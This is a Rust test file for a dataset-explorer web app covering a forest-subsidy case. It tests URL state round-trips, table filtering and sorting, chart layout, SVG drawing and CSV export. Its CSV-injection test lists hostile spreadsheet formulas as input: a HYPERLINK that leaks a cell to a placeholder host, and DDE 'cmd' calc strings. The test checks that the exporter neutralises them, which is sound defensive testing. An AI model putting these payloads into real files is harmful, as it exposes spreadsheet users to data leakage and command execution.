#![cfg(not(target_arch = "wasm32"))]
//! The logic behind the components, natively: URL state, table filtering and sorting, chart
//! specs, layout and drawing (to SVG).

use case_explorer::charts::draw::{draw, LIGHT};
use case_explorer::charts::layout::{layout, OPEN_ARROW};
use case_explorer::charts::spec::all_charts;
use case_explorer::components::filtered_ids;
use case_explorer::model::display::{NumberStyle, UnitChoice};
use case_explorer::model::{Currency, Family, Lang, Model, Origin, Shape, Status, EMBEDDED_JSON};
use case_explorer::state::{
    DatasetRef, InputKey, SortKey, Source, Theme, View, ViewState, MAX_INPUT_CHARS,
};
use plotters::prelude::*;
use proptest::prelude::*;

#[path = "common/cases.rs"]
mod cases;

fn model() -> Model {
    Model::embedded().expect("embedded dataset is valid")
}

#[test]
fn default_state_has_an_empty_query() {
    assert_eq!(ViewState::default().to_query(), "");
}

#[test]
fn tampered_query_keeps_what_is_valid_and_reports_the_rest() {
    let m = model();
    let (s, ignored) = ViewState::from_query(
        "?view=nope&lang=zh&fig=%3Cscript%3E&area=mu&cur=eur&sort=value&dir=sideways&x=1",
        Some(&m),
    );
    assert_eq!(s.view, View::Overview);
    assert_eq!(s.lang, Lang::Zh);
    assert_eq!(s.units.get(Family::Area), Some("mu"));
    // EUR is a currency, but this dataset has no money in it nor a rate to it.
    assert_eq!(s.units.currency, None);
    assert_eq!(s.sort, SortKey::Value);
    assert_eq!(s.selected, None);
    let keys: Vec<&str> = ignored.iter().map(|i| i.key.as_str()).collect();
    assert_eq!(keys, ["view", "fig", "cur", "dir", "x"]);
    assert_eq!(ignored[1].value, "<script>");
}

#[test]
fn unknown_figure_or_channel_in_link_is_ignored() {
    let m = model();
    let (s, ignored) =
        ViewState::from_query("fig=no_such&channel=nowhere&fig=subsidy_total", Some(&m));
    assert_eq!(s.selected.as_deref(), Some("subsidy_total"));
    assert_eq!(s.channel, None);
    assert_eq!(ignored.len(), 2);
}

#[test]
fn percent_decoding_takes_two_hex_digits_only() {
    // A sign is not a hex digit: "%+1" is a percent sign, a space ('+') and "1", not byte 0x01.
    let (s, ignored) = ViewState::from_query("q=%+1&w.a.g=%-1%2&w.a.p=%4a%4A%zz", None);
    assert_eq!(s.search, "% 1");
    assert_eq!(
        s.scenario.get(&key("a", "g")).map(String::as_str),
        Some("%-1%2")
    );
    assert_eq!(
        s.scenario.get(&key("a", "p")).map(String::as_str),
        Some("JJ%zz")
    );
    assert!(ignored.is_empty());
    assert!(!s.search.contains('\u{1}'));
}

fn key(scenario: &str, input: &str) -> InputKey {
    InputKey {
        scenario: scenario.into(),
        input: input.into(),
    }
}

#[test]
fn what_if_inputs_round_trip_by_scenario_and_input_id() {
    let m = model();
    let mut view = ViewState {
        view: View::Scenario,
        ..Default::default()
    };
    view.scenario
        .insert(key("who_protects", "pay"), "12,000".into());
    view.scenario.insert(
        key("subsidy_per_hectare", "forest_land"),
        "226666.6667".into(),
    );
    let q = view.to_query();
    assert_eq!(
        q,
        "?view=whatif&w.subsidy_per_hectare.forest_land=226666.6667&w.who_protects.pay=12%2C000"
    );
    let (back, ignored) = ViewState::from_query(&q, Some(&m));
    assert!(ignored.is_empty(), "{ignored:?}");
    assert_eq!(back, view);
    // Unknown scenarios and inputs, and the old positional keys, are reported, not kept.
    let (s, ignored) = ViewState::from_query(
        "w.who_protects.nope=1&w.nope.pay=2&w.who_protects=3&wg=500&w.who_protects.guards=7",
        Some(&m),
    );
    let keys: Vec<&str> = ignored.iter().map(|i| i.key.as_str()).collect();
    assert_eq!(
        keys,
        ["w.who_protects.nope", "w.nope.pay", "w.who_protects", "wg"]
    );
    assert_eq!(s.scenario.len(), 1);
    assert_eq!(
        s.scenario
            .get(&key("who_protects", "guards"))
            .map(String::as_str),
        Some("7")
    );
    // A long text is cut at the length an input keeps.
    let long = "9".repeat(1000);
    let (s, _) = ViewState::from_query(&format!("w.who_protects.guards={long}"), Some(&m));
    assert_eq!(
        s.scenario[&key("who_protects", "guards")].chars().count(),
        MAX_INPUT_CHARS
    );
}

#[test]
fn what_if_actions_are_typed_by_scenario_and_input() {
    use case_explorer::state::{Action, AppState};
    use std::rc::Rc;
    use yew::Reducible;
    let m = Rc::new(model());
    let state = Rc::new(AppState::new(m.clone(), ViewState::default(), Vec::new()));
    let state = state.reduce(Action::SetScenarioInput(
        key("who_protects", "guards"),
        Some("5".repeat(100)),
    ));
    let state = state.reduce(Action::SetScenarioInput(
        key("subsidy_per_hectare", "years"),
        Some("3".into()),
    ));
    assert_eq!(
        state.view.scenario[&key("who_protects", "guards")]
            .chars()
            .count(),
        MAX_INPUT_CHARS
    );
    let commits = state.commits;
    // Reset: one scenario back to the reported values, as a commit of its own.
    let state = state.reduce(Action::ResetScenario("who_protects".into()));
    assert_eq!(state.commits, commits + 1);
    assert_eq!(
        state.view.scenario.keys().collect::<Vec<_>>(),
        [&key("subsidy_per_hectare", "years")]
    );
    // A dataset without that scenario drops its inputs.
    let mut v: serde_json::Value = serde_json::from_str(EMBEDDED_JSON).expect("json");
    v["presentation"]["scenarios"]
        .as_array_mut()
        .expect("list")
        .remove(1);
    let other = Rc::new(Model::from_json(&v.to_string()).expect("valid"));
    let state = state.reduce(Action::UseModel(
        other,
        Source::Pasted,
        Rc::from(""),
        DatasetRef::Builtin,
    ));
    assert!(state.view.scenario.is_empty());
}

#[test]
fn a_huge_id_never_reaches_the_address_bar() {
    use case_explorer::state::MAX_URL_ID_CHARS;
    let huge = "a".repeat(1 << 20);
    // From a link: refused, and the notice quotes only its start.
    let (s, ignored) =
        ViewState::from_query(&format!("fig={huge}&channel={huge}&view=table"), None);
    assert_eq!((s.selected, s.channel, s.view), (None, None, View::Table));
    assert_eq!(ignored.len(), 2);
    assert_eq!(ignored[0].value.chars().count(), 40);
    // Selected in the page: kept there, left out of the address.
    let view = ViewState {
        selected: Some(huge.clone()),
        channel: Some(huge),
        search: "森".repeat(10_000),
        ..Default::default()
    };
    let q = view.to_query();
    assert!(q.len() < 4_000, "{} bytes", q.len());
    assert!(
        !q.contains("fig=") && !q.contains("channel="),
        "{}",
        &q[..80]
    );
    // An id at the limit still fits.
    let id = "b".repeat(MAX_URL_ID_CHARS);
    let view = ViewState {
        selected: Some(id.clone()),
        ..Default::default()
    };
    let (back, ignored) = ViewState::from_query(&view.to_query(), None);
    assert!(ignored.is_empty());
    assert_eq!(back.selected, Some(id));
}

fn arb_state() -> impl Strategy<Value = ViewState> {
    let m = model();
    let ids: Vec<String> = m.quantities.iter().map(|q| q.id.clone()).collect();
    (
        0usize..3,
        proptest::option::of(proptest::sample::select(ids)),
        proptest::option::of(proptest::sample::select(vec![
            "participation".to_string(),
            "eco_industries".to_string(),
            "policy_transfers".to_string(),
        ])),
        "[a-zA-Z0-9 森林&=%?#+]{0,20}",
        0usize..8,
        any::<bool>(),
        0usize..3,
        any::<bool>(),
        any::<bool>(),
        (
            0usize..3,
            proptest::option::of(proptest::sample::select(Status::ALL.to_vec())),
            proptest::option::of("[0-9a-f]{16}"),
        ),
        // The comparison view's choice.
        (
            proptest::collection::vec("[a-z0-9][a-z0-9._-]{0,10}|local:[0-9a-f]{8}", 0..4),
            proptest::option::of(0usize..case_explorer::model::concepts::CONCEPTS.len()),
            proptest::option::of(any::<bool>()),
            proptest::option::of(0usize..2),
        ),
    )
        .prop_map(
            |(v, fig, ch, q, sort, desc, area, usd, zh, (theme, status, ds), cmp)| ViewState {
                dataset: ds.map_or(DatasetRef::Builtin, DatasetRef::Local),
                view: View::ALL[v],
                selected: fig,
                channel: ch,
                kind: None,
                status,
                search: q,
                sort: SortKey::ALL[sort],
                descending: desc,
                units: {
                    let mut u = UnitChoice::default();
                    u.set(Family::Area, Some(["ha", "mu", "km2"][area]));
                    u.currency = Currency::parse(if usd { "USD" } else { "CNY" });
                    u
                },
                number_style: NumberStyle::Full,
                lang: if zh { Lang::Zh } else { Lang::En },
                theme: [Theme::System, Theme::Light, Theme::Dark][theme],
                scenario: Default::default(),
                compare: {
                    let (mut cases, concept, cur, carea) = cmp;
                    cases.dedup();
                    let mut seen = Vec::new();
                    cases.retain(|c| {
                        !seen.contains(c) && {
                            seen.push(c.clone());
                            true
                        }
                    });
                    std::rc::Rc::new(case_explorer::model::compare::Choice {
                        cases,
                        concept: concept
                            .map(|i| case_explorer::model::concepts::CONCEPTS[i].code.to_string()),
                        currency: cur.and_then(|c| Currency::parse(if c { "EUR" } else { "CNY" })),
                        area: carea.map(|i| ["km2", "mu"][i]),
                    })
                },
            },
        )
}

proptest! {
    #[test]
    fn view_state_round_trips_through_the_url(s in arb_state()) {
        let m = model();
        let (back, ignored) = ViewState::from_query(&s.to_query(), Some(&m));
        prop_assert!(ignored.is_empty(), "{:?}", ignored);
        prop_assert_eq!(back, s);
    }

    #[test]
    fn any_query_string_parses_without_panic(q in ".{0,200}") {
        let m = model();
        let _ = ViewState::from_query(&q, Some(&m));
    }
}

#[test]
fn table_filters_search_both_languages_and_sort() {
    let m = model();
    let mut v = ViewState {
        search: "森林覆盖".into(),
        ..Default::default()
    };
    let mut ids = filtered_ids(&m, &v);
    ids.sort();
    assert_eq!(
        ids,
        [
            "forest_cover_2002",
            "forest_cover_gain",
            "forest_cover_rate",
            "forest_cover_rate_results"
        ]
    );
    v.search = "TIMBER".into();
    assert_eq!(
        filtered_ids(&m, &v),
        ["timber_stock", "timber_per_forest_ha"]
    );
    v.search.clear();
    v.kind = Some(Origin::Context);
    v.sort = SortKey::Value;
    v.descending = true;
    let ids = filtered_ids(&m, &v);
    assert_eq!(ids.first().map(String::as_str), Some("tongliao_area"));
    assert!(ids
        .iter()
        .all(|id| m.quantity(id).map(|q| q.origin.code()) == Some("context")));
    v.kind = None;
    v.status = Some(Status::Contradicts);
    let mut flagged = filtered_ids(&m, &v);
    flagged.sort();
    assert_eq!(flagged, ["forest_land_area", "subsidy_total"]);
}

#[test]
fn implausible_figures_are_flagged_in_the_table_the_charts_and_the_csv() {
    // On every case with a chart: its first charted reported figure held against a range it
    // misses (2 to 3 times its value, in its own unit): no single slip (×10ⁿ, mu↔ha) brings it
    // inside, so the figure itself is implausible.
    let mut tried = 0;
    for c in cases::ALL {
        let m = Model::from_json(c.text).expect("valid");
        let charts = all_charts(&m, UnitChoice::default(), NumberStyle::Full, Lang::En, None);
        let Some((chart, id)) = charts.iter().find_map(|ch| {
            ch.bars()
                .find(|b| {
                    b.origin == Origin::Reported
                        && m.figure(&b.id).is_some_and(|f| f.value > 0.0)
                        && m.status_of(&b.id).is_none()
                })
                .map(|b| (ch.key.clone(), b.id.clone()))
        }) else {
            continue;
        };
        let f = m.figure(&id).expect("figure").clone();
        let value = f.value * f.scale.factor();
        let mut v = c.value();
        // Texts in the case's own language, which every case declares.
        let own = v["case"]["language"].as_str().unwrap_or("en").to_string();
        v["relations"]
            .as_array_mut()
            .expect("relations")
            .push(serde_json::json!({
            "id": "held_against_a_range", "label": {own.as_str(): "Against a range"},
            "rule": {"kind": "reference_range", "subject": id, "reference": {
                "low": 2.0 * value, "high": 3.0 * value, "unit": f.unit,
                "source": {"name": "A yearbook", "publisher": "A bureau", "year": 2018,
                    "locator": "Table 1", "published": "a range"},
                "note": {own.as_str(): "n"}}}}));
        let m = Model::from_json(&v.to_string()).unwrap_or_else(|e| panic!("{}: {e:?}", c.path));
        assert_eq!(m.status_of(&id), Some(Status::Implausible), "{}", c.path);
        // The table's status filter, through the URL.
        let (state, ignored) = ViewState::from_query("view=table&status=implausible", Some(&m));
        assert!(ignored.is_empty(), "{ignored:?}");
        assert_eq!(state.status, Some(Status::Implausible));
        assert_eq!(
            filtered_ids(&m, &state),
            std::slice::from_ref(&id),
            "{}",
            c.path
        );
        assert!(state.to_query().contains("status=implausible"));
        // The chart's description names the flag.
        let charts = all_charts(&m, UnitChoice::default(), NumberStyle::Full, Lang::En, None);
        let flagged = charts.iter().find(|ch| ch.key == chart).expect("chart");
        assert!(
            flagged
                .description
                .contains("(implausible against a published reference)"),
            "{}: {}",
            c.path,
            flagged.description
        );
        // The CSV's check column.
        let csv = case_explorer::model::export::figures_csv(&m, &[&f], Lang::En).expect("csv");
        assert!(
            csv.lines().nth(1).expect("row").ends_with(",implausible"),
            "{}: {csv}",
            c.path
        );
        tried += 1;
    }
    assert!(tried >= 6, "cases with a chart: {tried}");
    // Nothing in the embedded case is flagged as implausible alone: the timber checks point at
    // the forest land area, which is contradicted (the worse status) already.
    let (state, _) = ViewState::from_query("status=implausible", Some(&model()));
    assert!(filtered_ids(&model(), &state).is_empty());
}

#[test]
fn chart_specs_keep_bounds_and_flags() {
    let m = model();
    let charts = all_charts(&m, UnitChoice::default(), NumberStyle::Full, Lang::En, None);
    let keys: Vec<&str> = charts.iter().map(|c| c.key.as_str()).collect();
    assert_eq!(
        keys,
        ["cover", "subsidies", "incomes", "land", "tourism", "guards"]
    );
    let cover = &charts[0];
    let rate = cover
        .bars()
        .find(|b| b.id == "forest_cover_rate")
        .expect("bar");
    assert_eq!(rate.value.shape(), Shape::MoreThan(21.0));
    assert_eq!(rate.text, "more than 21%");
    let before = cover
        .bars()
        .find(|b| b.id == "vegetation_cover_before")
        .expect("bar");
    assert_eq!(before.value.shape(), Shape::LessThan(5.0));
    // The three parts and the stated total; their sum is the chart's own (`Panel::gap`).
    let subsidies = &charts[1];
    assert_eq!(subsidies.bars().count(), 4);
    let total = subsidies
        .bars()
        .find(|b| b.id == "subsidy_total")
        .expect("bar");
    assert_eq!(total.status, Some(Status::Contradicts));
    assert!(subsidies.description.contains(
        "Ecological subsidies distributed, stated total: 50,457,000 yuan (2014–2017) (contradicted"
    ));
    let land = all_charts(
        &m,
        {
            let mut u = UnitChoice::default();
            u.set(Family::Area, Some("km2"));
            u
        },
        NumberStyle::Full,
        Lang::Zh,
        None,
    );
    let banner = land[3].bars().find(|b| b.id == "banner_area").expect("bar");
    assert_eq!(banner.text, "约11,500 平方公里");
}

#[test]
fn layout_places_bounds_and_hits_rows() {
    let m = model();
    let charts = all_charts(&m, UnitChoice::default(), NumberStyle::Full, Lang::En, None);
    let l = layout(&charts[0], 600.0);
    assert_eq!(l.bars.len(), 4);
    let rate = &l.bars[1];
    assert!(rate.open_high, "a lower bound ends in an arrow");
    assert!(rate.x_lo > rate.x_zero);
    // The arrow of "more than 21%" once ran to the axis end, past the bar of "more than 70%":
    // it now stays on its own bound's scale, long enough for its head.
    let now = &l.bars[3];
    assert!(now.open_high);
    assert!(rate.x_hi < now.x_lo, "{} runs past {}", rate.x_hi, now.x_lo);
    assert!(rate.x_hi >= rate.x_lo + OPEN_ARROW - 1e-9);
    assert!(now.x_hi <= l.plot_x1 + 1e-9);
    let mid = (l.bars[2].y0 + l.bars[2].y1) / 2.0;
    assert_eq!(l.hit(300.0, mid), Some(2));
    assert_eq!(l.hit(300.0, l.height + 50.0), None);
}

#[test]
fn charts_draw_to_svg_with_labels_and_focus() {
    let m = model();
    let charts = all_charts(&m, UnitChoice::default(), NumberStyle::Full, Lang::En, None);
    let spec = &charts[1];
    let l = layout(spec, 640.0);
    let mut svg = String::new();
    {
        let root =
            SVGBackend::with_string(&mut svg, (640, l.height.ceil() as u32)).into_drawing_area();
        draw(&root, spec, &l, &LIGHT, 1.0, Some(4)).expect("draws");
    }
    assert!(svg.contains("Grassland awards"), "labels are drawn");
    // Values beside their bars, without the unit the panel names above them ("yuan").
    assert!(svg.contains(">\n50,457,000\n<"), "values are drawn");
    assert!(
        !svg.contains("50,457,000 yuan"),
        "the unit is not repeated on each bar"
    );
    // The flagged bar carries the orange warning triangle, and the focus outline is black.
    assert!(
        svg.contains("#D55E00") || svg.contains("#d55e00"),
        "flag colour present"
    );
    assert!(svg.matches("<rect").count() >= 6);
}

/// OWASP's advice on CSV injection: text cells that a spreadsheet would run as a formula get a
/// leading `'`; numbers, negative ones too, stay numbers.
#[test]
fn csv_export_neutralises_formulas_and_keeps_numbers() {
    let m = model();
    let base = m.figure("forest_guards").expect("figure").clone();
    let hostile = [
        "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let figures: Vec<_> = hostile
        .iter()
        .enumerate()
        .map(|(i, h)| {
            let mut f = base.clone();
            f.id = format!("-{i}");
            f.label.set("en", h.to_string());
            f.source.note.set("en", h.to_string());
            f.source.quote = Some(h.to_string());
            f.value = -0.5;
            f.unit = "percentage_point".into();
            f
        })
        .collect();
    let refs: Vec<_> = figures.iter().collect();
    let text = case_explorer::model::export::figures_csv(&m, &refs, Lang::En).expect("csv");
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let headers = r.headers().expect("headers").clone();
    let col = |name: &str| headers.iter().position(|h| h == name).expect("column");
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("record")).collect();
    assert_eq!(rows.len(), hostile.len());
    for (i, (row, h)) in rows.iter().zip(hostile).enumerate() {
        for name in ["label", "note", "quote"] {
            assert_eq!(&row[col(name)], format!("'{h}"), "{name} of row {i}");
        }
        assert_eq!(&row[col("id")], format!("'-{i}"));
        for name in ["value_as_reported", "value"] {
            assert_eq!(row[col(name)].parse::<f64>(), Ok(-0.5), "{name} of row {i}");
        }
        assert_eq!(&row[col("unit")], "percentage_point");
    }
    // A plain text and the header row are written as they are.
    let plain = case_explorer::model::export::figures_csv(&m, &[&base], Lang::En).unwrap();
    assert!(plain.starts_with("id,label,value_as_reported,"), "{plain}");
    assert!(plain.contains("\r\nforest_guards,"), "{plain}");
}

proptest! {
    /// Whatever the labels hold, the CSV export reads back (with the csv crate) field for field.
    #[test]
    fn csv_export_reads_back(
        label in "[a-z,\"\n\r 森林;']{0,30}",
        note in ".{0,30}",
        case in 0..cases::ALL.len(),
    ) {
        // Any figure of any case: the last one of the chosen case.
        let m = Model::from_json(cases::ALL[case].text).expect("valid");
        let mut f = m.dataset.figures.last().expect("a figure").clone();
        f.label.set("en", label.clone());
        f.source.note.set("en", note.clone());
        let text = case_explorer::model::export::figures_csv(&m, &[&f], Lang::En).expect("csv");
        let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let headers = r.headers().expect("headers").clone();
        let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("record")).collect();
        prop_assert_eq!(rows.len(), 1);
        let get = |name: &str| rows[0].get(headers.iter().position(|h| h == name).expect("column")).map(str::to_string);
        // Text that a spreadsheet would run is neutralised (see the test above).
        let neutral = |t: String| {
            if t.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{t}") } else { t }
        };
        prop_assert_eq!(get("label"), Some(neutral(label)));
        prop_assert_eq!(get("note"), Some(neutral(note)));
        let value = f.value * f.scale.factor();
        prop_assert_eq!(get("value").and_then(|x| x.parse::<f64>().ok()), Some(value));
        let period = case_explorer::model::format::period_text(Some(&f.period), Lang::En);
        prop_assert_eq!(get("period"), Some(period));
    }
}

/// The origin filter is typed: its URL code reads back, an unknown one is ignored with a notice.
#[test]
fn kind_filter_round_trips_through_the_url() {
    let m = model();
    for origin in Origin::ALL {
        let v = ViewState {
            kind: Some(origin),
            ..Default::default()
        };
        let query = v.to_query();
        assert_eq!(query, format!("?kind={}", origin.code()));
        let (back, ignored) = ViewState::from_query(&query, Some(&m));
        assert_eq!(back.kind, Some(origin));
        assert!(ignored.is_empty());
    }
    let (v, ignored) = ViewState::from_query("?kind=bogus", Some(&m));
    assert_eq!(v.kind, None);
    assert_eq!(ignored.len(), 1);
    assert_eq!(ignored[0].key, "kind");
}

/// The table's order as a stable sort on each column's key (reversed comparison when
/// descending), computed here the plain way, against the table's sort-once-then-walk order.
#[test]
fn table_order_is_a_stable_sort_in_either_direction() {
    let m = model();
    type KeyFn = fn(&case_explorer::model::Quantity) -> String;
    let columns: [(SortKey, KeyFn); 3] = [
        (SortKey::Kind, |q| q.origin.code().to_string()),
        (SortKey::Unit, |q| q.unit.code().to_string()),
        (SortKey::Channel, |q| {
            q.channel.clone().unwrap_or_else(|| "~".into())
        }),
    ];
    for (sort, key) in columns {
        for descending in [false, true] {
            let mut expected: Vec<&case_explorer::model::Quantity> = m.quantities.iter().collect();
            expected.sort_by(|a, b| {
                let o = key(a).cmp(&key(b));
                if descending {
                    o.reverse()
                } else {
                    o
                }
            });
            let expected: Vec<String> = expected.into_iter().map(|q| q.id.clone()).collect();
            let v = ViewState {
                sort,
                descending,
                ..Default::default()
            };
            assert_eq!(
                filtered_ids(&m, &v),
                expected,
                "{sort:?}, descending {descending}"
            );
        }
    }
    // Values: largest first when descending, and the source order simply reversed.
    let v = ViewState {
        sort: SortKey::Value,
        descending: true,
        ..Default::default()
    };
    let values: Vec<f64> = filtered_ids(&m, &v)
        .iter()
        .map(|id| m.comparable_value(m.quantity(id).expect("row")))
        .collect();
    assert!(values.windows(2).all(|w| w[0] >= w[1]), "{values:?}");
    let source: Vec<String> = m.quantities.iter().rev().map(|q| q.id.clone()).collect();
    let v = ViewState {
        descending: true,
        ..Default::default()
    };
    assert_eq!(filtered_ids(&m, &v), source);
    // The search ignores ASCII case up to the last byte of a field, and a needle longer than
    // every field finds nothing.
    let v = ViewState {
        search: "PER_FOREST_HA".into(),
        ..Default::default()
    };
    assert_eq!(filtered_ids(&m, &v), ["timber_per_forest_ha"]);
    let v = ViewState {
        search: "x".repeat(5000),
        ..Default::default()
    };
    assert!(filtered_ids(&m, &v).is_empty());
}

#[test]
fn the_search_looks_in_every_field_but_never_across_two() {
    let m = model();
    let search = |s: &str| {
        let v = ViewState {
            search: s.into(),
            ..Default::default()
        };
        let mut ids = filtered_ids(&m, &v);
        ids.sort();
        ids
    };
    // A word found only in a source quote (in no id or label) finds the figures it quotes.
    let in_names = |w: &str| {
        m.quantities.iter().any(|q| {
            q.id.to_ascii_lowercase().contains(w)
                || q.label.get(Lang::En).to_ascii_lowercase().contains(w)
                || q.label.get(Lang::Zh).to_ascii_lowercase().contains(w)
        })
    };
    let (word, quoted): (String, Vec<String>) = m
        .dataset
        .figures
        .iter()
        .filter_map(|f| f.source.quote.as_deref())
        .flat_map(|q| q.split(|c: char| !c.is_ascii_alphabetic()))
        .map(str::to_ascii_lowercase)
        .filter(|w| w.len() >= 6 && !in_names(w))
        .map(|w| {
            let mut ids: Vec<String> = m
                .dataset
                .figures
                .iter()
                .filter(|f| {
                    f.source
                        .quote
                        .as_deref()
                        .is_some_and(|q| q.to_ascii_lowercase().contains(&w))
                })
                .map(|f| f.id.clone())
                .collect();
            ids.sort();
            (w, ids)
        })
        .next()
        .expect("a quote word that names nothing");
    assert_eq!(search(&word.to_ascii_uppercase()), quoted, "{word}");
    // The end of one field and the start of the next are not one text.
    let q = &m.quantities[0];
    let across = format!(
        "{}\u{0}{}",
        &q.id[q.id.len() - 2..],
        &q.label.get(Lang::En)[..2]
    );
    assert!(search(&across).is_empty());
}
